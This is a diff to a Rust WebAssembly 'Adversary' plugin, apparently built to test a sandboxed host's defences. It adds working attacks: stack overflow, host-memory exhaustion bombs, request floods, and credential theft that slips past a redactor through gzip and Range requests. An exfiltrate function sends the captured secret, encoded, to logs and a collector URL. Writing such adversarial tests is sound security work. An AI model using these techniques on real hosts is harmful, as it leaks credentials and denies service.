@@ -32,6 +32,12 @@ struct Input {
     /// huge_output: MiB of output.
     #[serde(default)]
     mb: Option<u32>,
+    /// Bombs: how many times.
+    #[serde(default)]
+    count: Option<u32>,
+    /// Bombs: how big each one is, in KiB.
+    #[serde(default)]
+    kib: Option<u32>,
 }
 
 struct Adversary;
@@ -180,6 +186,104 @@ impl Guest for Adversary {
                 Err(permanent("flooded stdout, stderr and the log"))
             }
             "panic" => panic!("the adversary panics on purpose"),
+            "exit" => {
+                eprintln!("the adversary leaves by the back door");
+                std::process::exit(3)
+            }
+            // Overflow Rust's own stack, which lives in linear memory (1 MiB): big frames run
+            // off its bottom long before the WebAssembly stack limit is reached.
+            "shadow_stack" => {
+                let depth = big_frames(std::hint::black_box(1));
+                changed(&json!({ "depth": depth }))
+            }
+            // Ask the credential's host to echo our request gzip-compressed, and decompress it
+            // here, where the host's redactor cannot look (http.send, then wasi:http).
+            "steal_gzip" => {
+                let resp = Request::get(url()?).header("accept-encoding", "gzip").send().map_err(|e| blocked(http_text(&e)))?;
+                let loot = gunzip_or_raw(&resp.raw.body);
+                exfiltrate(&input, &loot, &format!("gzip, content-encoding {:?}", resp.header("content-encoding")))
+            }
+            "steal_gzip_wasi" => {
+                let (_, body) = wasi_http_request("GET", &url()?, &[("accept-encoding", "gzip")]).map_err(blocked)?;
+                let loot = gunzip_or_raw(&body);
+                exfiltrate(&input, &loot, "wasi:http gzip")
+            }
+            // Fetch the echo eight bytes at a time with Range requests, so no single response
+            // holds the credential whole.
+            "steal_range" => {
+                let mut loot = Vec::new();
+                for i in 0..256u32 {
+                    let (from, to) = (i * 8, i * 8 + 7);
+                    let range = format!("bytes={from}-{to}");
+                    let resp = Request::get(url()?).header("range", &range).send().map_err(|e| blocked(http_text(&e)))?;
+                    if resp.status() != 206 {
+                        loot.extend_from_slice(&resp.raw.body);
+                        break;
+                    }
+                    loot.extend_from_slice(&resp.raw.body);
+                }
+                exfiltrate(&input, &loot, "range slices")
+            }
+            // Host memory: wasi:http header objects, never dropped.
+            "fields_bomb" => {
+                use wasi::http::types::Fields;
+                let (count, kib) = (input.count.unwrap_or(80_000), input.kib.unwrap_or(64) as usize);
+                let value = vec![b'v'; kib * 1024];
+                let mut made = 0u32;
+                for i in 0..count {
+                    let fields = Fields::new();
+                    if let Err(e) = fields.append("x-bomb", &value) {
+                        return Err(blocked(format!("header {i} refused: {e:?}")));
+                    }
+                    std::mem::forget(fields);
+                    made += 1;
+                }
+                changed(&json!({ "fields": made }))
+            }
+            // Host memory: outgoing bodies filled and never sent.
+            "bodies_bomb" => {
+                use wasi::http::types::{Fields, OutgoingRequest};
+                let chunk = vec![b'b'; 64 * 1024];
+                let mut parked = 0u64;
+                for _ in 0..input.count.unwrap_or(10_000) {
+                    let request = OutgoingRequest::new(Fields::new());
+                    let body = request.body().map_err(|()| blocked("no body"))?;
+                    let stream = body.write().map_err(|()| blocked("no stream"))?;
+                    let room = stream.check_write().unwrap_or(0) as usize;
+                    let _ = stream.write(&chunk[..room.min(chunk.len())]);
+                    parked += room.min(chunk.len()) as u64;
+                    std::mem::forget((request, body, stream));
+                }
+                changed(&json!({ "parked_bytes": parked }))
+            }
+            // Host memory: a long method name on many requests.
+            "method_bomb" => {
+                use wasi::http::types::{Fields, Method, OutgoingRequest};
+                let name = "M".repeat(input.kib.unwrap_or(1024) as usize * 1024);
+                for i in 0..input.count.unwrap_or(1000) {
+                    let request = OutgoingRequest::new(Fields::new());
+                    if request.set_method(&Method::Other(name.clone())).is_err() {
+                        return Err(blocked(format!("method name refused at request {i}")));
+                    }
+                    std::mem::forget(request);
+                }
+                changed(&json!({ "kept": "every method name" }))
+            }
+            // The request record: many refused calls, each with a long URL.
+            "send_flood" => {
+                let (count, kib) = (input.count.unwrap_or(100_000), input.kib.unwrap_or(0) as usize);
+                let target = url()?;
+                let long = format!("{target}/{}", "u".repeat(kib * 1024));
+                let mut outcomes = std::collections::BTreeMap::<String, u32>::new();
+                for _ in 0..count {
+                    let key = match Request::get(long.clone()).send() {
+                        Ok(r) => format!("status {}", r.status()),
+                        Err(e) => http_text(&e).chars().take(60).collect(),
+                    };
+                    *outcomes.entry(key).or_default() += 1;
+                }
+                Err(permanent(format!("flooded: {outcomes:?}")))
+            }
             other => Err(permanent(format!("unknown attack {other:?}"))),
         }
     }
@@ -198,6 +302,47 @@ impl Guest for Adversary {
             ],
         )
     }
+}
+
+/// Decompresses gzip, or gives the bytes back as they are.
+fn gunzip_or_raw(body: &[u8]) -> Vec<u8> {
+    // A gzip member: 10-byte header (no optional fields here), deflate data, 8-byte trailer.
+    if body.len() > 18 && body[0] == 0x1f && body[1] == 0x8b {
+        if let Ok(inflated) = miniz_oxide::inflate::decompress_to_vec(&body[10..body.len() - 8]) {
+            return inflated;
+        }
+    }
+    body.to_vec()
+}
+
+/// Writes what was captured everywhere a copy could land — reversed into the log, as hex to
+/// stdout and the error, raw to the collector — the way a real thief would smuggle it.
+fn exfiltrate(input: &Input, loot: &[u8], how: &str) -> Result<Outcome, TaskError> {
+    let text = String::from_utf8_lossy(loot).into_owned();
+    let reversed: String = text.chars().rev().collect();
+    let hex: String = loot.iter().map(|b| format!("{b:02x}")).collect();
+    log(Level::Info, &format!("captured ({how}), reversed: {reversed}"));
+    println!("captured hex: {hex}");
+    eprintln!("captured: {text}");
+    let sent = match &input.collector {
+        Some(c) => match Request::post(c.clone()).body(loot.to_vec()).send() {
+            Ok(r) => format!("answered {}", r.status()),
+            Err(e) => http_text(&e),
+        },
+        None => "no collector".into(),
+    };
+    Err(permanent(format!("captured ({how}) {hex}; exfiltration {sent}")))
+}
+
+#[inline(never)]
+fn big_frames(n: u64) -> u64 {
+    let mut frame = [0u8; 4096];
+    frame[(n % 4096) as usize] = n as u8;
+    let frame = std::hint::black_box(frame);
+    if n == u64::MAX {
+        return n;
+    }
+    big_frames(std::hint::black_box(n + 1)).wrapping_add(u64::from(frame[(n % 4096) as usize]))
 }
 
 #[inline(never)]
@@ -264,6 +409,11 @@ fn lookup(name: &str) -> Result<Vec<String>, String> {
 
 /// A GET through `wasi:http/outgoing-handler`.
 fn wasi_http_get(url: &str) -> Result<(u16, String), String> {
+    wasi_http_request("GET", url, &[]).map(|(status, body)| (status, String::from_utf8_lossy(&body).into_owned()))
+}
+
+/// A request through `wasi:http/outgoing-handler`, with headers of our choosing.
+fn wasi_http_request(method: &str, url: &str, headers: &[(&str, &str)]) -> Result<(u16, Vec<u8>), String> {
     use wasi::http::outgoing_handler;
     use wasi::http::types::{Fields, Method, OutgoingBody, OutgoingRequest, Scheme};
     use wasi::io::streams::StreamError;
@@ -273,9 +423,14 @@ fn wasi_http_get(url: &str) -> Result<(u16, String), String> {
         Some(i) => (&rest[..i], &rest[i..]),
         None => (rest, "/"),
     };
-    let request = OutgoingRequest::new(Fields::new());
+    let fields = Fields::new();
+    for (name, value) in headers {
+        fields.append(name, value.as_bytes()).map_err(|e| format!("header {name}: {e:?}"))?;
+    }
+    let request = OutgoingRequest::new(fields);
     let scheme = if scheme == "https" { Scheme::Https } else { Scheme::Http };
-    request.set_method(&Method::Get).map_err(|()| "bad method")?;
+    let method = if method == "GET" { Method::Get } else { Method::Other(method.to_string()) };
+    request.set_method(&method).map_err(|()| "bad method")?;
     request.set_scheme(Some(&scheme)).map_err(|()| "bad scheme")?;
     request.set_authority(Some(authority)).map_err(|()| "bad authority")?;
     request.set_path_with_query(Some(path)).map_err(|()| "bad path")?;
@@ -300,7 +455,7 @@ fn wasi_http_get(url: &str) -> Result<(u16, String), String> {
         }
     }
     drop(stream);
-    Ok((status, String::from_utf8_lossy(&bytes).into_owned()))
+    Ok((status, bytes))
 }
 
 export_plugin!(Adversary);
